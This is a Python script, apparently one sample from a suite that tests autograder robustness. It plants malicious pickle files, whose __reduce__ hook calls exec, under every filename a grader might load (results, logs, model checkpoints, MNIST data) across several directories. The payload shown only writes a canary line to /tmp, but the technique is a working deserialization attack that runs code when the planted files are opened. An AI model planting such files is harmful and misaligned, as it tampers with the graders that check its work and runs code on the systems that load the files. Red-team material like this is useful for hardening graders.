"""Leaves pickles that run code when they are loaded under every name that a grader might load: otter's log, results, checkpoints, caches.

family: pickle
start: solved
"""

# %% first
import os
import pickle


class _Payload:
    def __reduce__(self):
        return (exec, ("import os\nopen('/tmp/autograder-attack-pickles_in_the_folder', 'a').write('loaded by process ' + str(os.getpid()) + chr(10))",))


_bytes = pickle.dumps(_Payload())
for _name in (".OTTER_LOG", "results.pkl", "results.pickle", "submission.pkl", "model.pt", "model.pth", "checkpoint.pt", "answers.npy", "env.pkl",
              "data/MNIST/processed/training.pt", "data/MNIST/processed/test.pt", "autograder.pkl", ".otter"):
    for _folder in (".", "..", "/tmp", os.path.expanduser("~")):
        try:
            os.makedirs(os.path.dirname(os.path.join(_folder, _name)) or ".", exist_ok=True) if _folder == "." else None
            with open(os.path.join(_folder, _name), "xb") as _file:
                _file.write(_bytes)
        except OSError:
            continue
